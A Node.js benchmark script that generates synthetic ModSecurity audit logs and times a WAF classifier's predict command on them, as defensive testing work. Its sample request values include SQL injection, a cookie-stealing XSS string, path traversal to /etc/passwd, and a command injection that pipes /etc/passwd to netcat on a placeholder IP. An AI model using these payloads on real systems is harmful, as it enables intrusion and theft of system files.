/**
 * Speed and peak memory of `predict` on audit logs of ModSecurity, JSON and native, beside NDJSON of as many events.
 *
 *   npm run build && node bench/audit-logs.js [megabytes]        size of each log, default 200
 *
 * The peak must not grow with the size. Rates are of this machine, at this moment: compare the lines with each other.
 */
import { spawnSync } from 'node:child_process';
import { closeSync, mkdtempSync, openSync, readFileSync, rmSync, statSync, writeSync } from 'node:fs';
import { availableParallelism, tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const binary = fileURLToPath(new URL('../bin/waf-classify.js', import.meta.url));
const hook = new URL('./report-peak.js', import.meta.url).href;
const megabytes = Number(process.argv[2] ?? 200);

const VALUES = [
  "1' or '1'='1 -- -",
  '<script>alert(document.cookie)</script>',
  '../../../../etc/passwd',
  ';cat /etc/passwd|nc 192.0.2.1 4444',
  'winter tyres 205/55 r16',
  'a normal sentence, with a comma and an apostrophe’s tail',
];
const RULES = ['942100', '941110', '930100', '932105', '920350'];

/** The alarms of request number `index`: three rules and the score, as the Core Rule Set has them. */
function alarmsOf(index) {
  return [0, 1, 2].map((offset) => ({
    rule: RULES[(index + offset) % RULES.length],
    value: `${VALUES[(index + offset) % VALUES.length]} ${index}`,
  }));
}

const MATCH = `Matched "Operator \`Rx' with parameter \`${'(?i)(?:union|select|script)'.repeat(6)}' against variable \`ARGS:q' (Value: \``;
const TAGS = [
  'application-multi',
  'language-multi',
  'platform-multi',
  'paranoia-level/1',
  'OWASP_CRS',
  'capec/1000/152/248',
];

function jsonRecord(index) {
  const details = ({ rule, value }) => ({
    message: 'An attack was found',
    details: {
      ...{ match: `${MATCH}${value}' )`, reference: 'o0,5v7,9', ruleId: rule, file: '/etc/crs/rules/X.conf' },
      ...{ lineNumber: '46', data: `Matched Data: x found within ARGS:q: ${value}`, severity: '2' },
      ...{ ver: 'OWASP_CRS/4.1.0', rev: '', tags: TAGS, maturity: '0', accuracy: '0' },
    },
  });
  const score = { rule: '949110', value: '15' };
  const headers = { Host: 'shop.example', 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64)', Accept: '*/*' };
  const transaction = {
    ...{
      client_ip: '192.0.2.7',
      time_stamp: 'Tue Mar  3 09:15:04 2026',
      server_id: '5d1c',
      client_port: 5,
      host_ip: '192.0.2.1',
    },
    ...{ host_port: 443, unique_id: `17725281${String(index).padStart(9, '0')}.118203` },
    request: { method: 'GET', http_version: 1.1, uri: `/find?n=${index}`, headers },
    response: { http_code: 403, headers: { Server: 'nginx' } },
    messages: [...alarmsOf(index), score].map(details),
  };
  return `${JSON.stringify({ transaction })}\n`;
}

function nativeRecord(index) {
  const boundary = `---${String(index).padStart(8, '0')}---`;
  const id = `17725281${String(index).padStart(9, '0')}.118203`;
  const messages = [...alarmsOf(index), { rule: '949110', value: '15' }].map(
    ({ rule, value }) =>
      `ModSecurity: Warning. ${MATCH}${value}' ) [file "/etc/crs/rules/X.conf"] [line "46"] [id "${rule}"] [rev ""] ` +
      `[msg "An attack was found"] [data "Matched Data: x found within ARGS:q: ${value}"] [severity "2"] ` +
      `[ver "OWASP_CRS/4.1.0"] [maturity "0"] [accuracy "0"] ${TAGS.map((tag) => `[tag "${tag}"]`).join(' ')} ` +
      `[hostname "192.0.2.1"] [uri "/find"] [unique_id "${id}"] [ref "o0,5v7,9"]\n`,
  );
  return (
    `${boundary}A--\n[03/Mar/2026:09:15:04 +0000] ${id} 192.0.2.7 5 192.0.2.1 443\n` +
    `${boundary}B--\nGET /find?n=${index} HTTP/1.1\nHost: shop.example\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\n\n` +
    `${boundary}F--\nHTTP/1.1 403\nServer: nginx\n\n${boundary}H--\n${messages.join('')}\n${boundary}Z--\n\n`
  );
}

function eventLines(index) {
  return alarmsOf(index)
    .map(({ rule, value }, k) => {
      const known = { CLIENT_IP: '192.0.2.7', CLIENT_USERAGENT: 'Mozilla/5.0 (X11; Linux x86_64)', RESPONSE_CODE: 403 };
      const variable = { MATCHED_VARIABLE_SRC: 'REQUEST_GET_ARGS', MATCHED_VARIABLE_NAME: 'q' };
      return `${JSON.stringify({ EVENT_ID: `${index}:${rule}:${k}`, ...known, ...variable, MATCHED_VARIABLE_VALUE: value })}\n`;
    })
    .join('');
}

/** Writes records until there are so many, or so many bytes. @returns how many */
function writeRecords(path, recordOf, { most, bytes }) {
  const file = openSync(path, 'w');
  let written = 0;
  let index = 0;
  for (let block = ''; index < most && written < bytes; block = '') {
    while (block.length < 1 << 20 && index < most) block += recordOf(index++);
    written += writeSync(file, block);
  }
  closeSync(file);
  return index;
}

const folder = mkdtempSync(join(tmpdir(), 'waf-classify-bench-'));
try {
  console.log(`${availableParallelism()} cores, Node ${process.version}`);
  console.log('what        file MB     events   peak MB   seconds   events/s      MB/s');
  let records = Number.POSITIVE_INFINITY;
  for (const [name, recordOf] of [
    ['json', jsonRecord],
    ['native', nativeRecord],
    ['ndjson', eventLines],
  ]) {
    const path = join(folder, name);
    // As many events in each as the first log has.
    records = writeRecords(path, recordOf, {
      most: records,
      bytes: records === Number.POSITIVE_INFINITY ? megabytes * 1e6 : Number.POSITIVE_INFINITY,
    });
    const startedAt = performance.now();
    const { status, stderr } = spawnSync(
      process.execPath,
      ['--import', hook, binary, 'predict', path, '-q', '-o', join(folder, 'verdicts.ndjson')],
      { env: { ...process.env, WAF_CLASSIFY_PEAK_FILE: join(folder, 'peak') }, encoding: 'utf8' },
    );
    const seconds = (performance.now() - startedAt) / 1000;
    if (status !== 0) throw new Error(`predict exited with ${status}: ${stderr}`);
    const size = statSync(path).size / 1e6;
    const cells = [
      size.toFixed(1),
      3 * records,
      (Number(readFileSync(join(folder, 'peak'), 'utf8')) / 1024).toFixed(0),
    ];
    const rates = [seconds.toFixed(2), Math.round((3 * records) / seconds), (size / seconds).toFixed(1)];
    console.log(name.padEnd(8) + [...cells, ...rates].map((cell) => String(cell).padStart(11)).join(''));
    rmSync(path);
  }
} finally {
  rmSync(folder, { recursive: true, force: true });
}
